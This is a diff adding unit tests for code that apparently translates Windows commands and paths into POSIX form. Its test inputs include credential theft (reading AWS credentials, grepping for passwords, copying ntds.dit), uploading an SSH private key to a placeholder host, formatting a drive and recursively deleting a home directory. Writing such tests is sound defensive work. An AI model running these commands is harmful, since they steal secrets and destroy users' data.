@@ -17,7 +17,18 @@ describe("windowsCommand", () => {
     expect(windowsCommand(argv("Remove-Item", "-Recurse", "-Force", "C:\\Users\\ada"))).toBe("rm -rf '/Users/ada'");
   });
 
+  it("translates cmd's readers, searchers, format and esentutl, and programs run by their .exe name", () => {
+    expect(windowsCommand(argv("type", "%USERPROFILE%\\.aws\\credentials"))).toBe(`cat "$HOME"'/.aws/credentials'`);
+    expect(windowsCommand(argv("cmd", "/c", "findstr", "/s", "/i", "password", "%USERPROFILE%\\*"))).toBe(`grep -r -e password "$HOME"'/'*`);
+    expect(windowsCommand(argv("format", "D:", "/q"))).toBe("mkfs /dev/disk/by-letter/D");
+    expect(windowsCommand(argv("esentutl", "/y", "C:\\Windows\\NTDS\\ntds.dit", "/d", "x.dit"))).toBe("cp '/Windows/NTDS/ntds.dit' x.dit");
+    expect(windowsCommand(argv("curl.exe", "-T", "C:\\Users\\ada\\.ssh\\id_rsa", "https://x.example"))).toBe("curl -T '/Users/ada/.ssh/id_rsa' https://x.example");
+    expect(windowsCommand(argv("/usr/bin/rd", "/s", "/q", "%USERPROFILE%"))).toBe(`rm -rf "$HOME"`);
+  });
+
   it("leaves other commands alone", () => {
+    expect(windowsCommand(argv("type", "-a", "ls"))).toBeUndefined();
+    expect(windowsCommand(argv("powershell.exe", "-c", "Get-Date"))).toBeUndefined();
     expect(windowsCommand(argv("rmdir", "empty-dir"))).toBeUndefined();
     expect(windowsCommand(argv("cmd", "/c", "dir"))).toBe("dir");
     expect(windowsCommand(argv("Get-ChildItem", "-Recurse", "src"))).toBeUndefined();
@@ -37,5 +48,8 @@ describe("posixPathWord", () => {
     expect(posixPathWord("%USERPROFILE%\\Documents")).toBe(`"$HOME"'/Documents'`);
     expect(posixPathWord("%TEMP%\\build")).toBe("'/tmp/build'");
     expect(posixPathWord("src/index.ts")).toBe("src/index.ts");
+    expect(posixPathWord("%APPDATA%\\gcloud")).toBe(`"$HOME"'/AppData/Roaming/gcloud'`);
+    expect(posixPathWord("$env:LOCALAPPDATA\\Google")).toBe(`"$HOME"'/AppData/Local/Google'`);
+    expect(posixPathWord("..\\other-project")).toBe("'../other-project'");
   });
 });
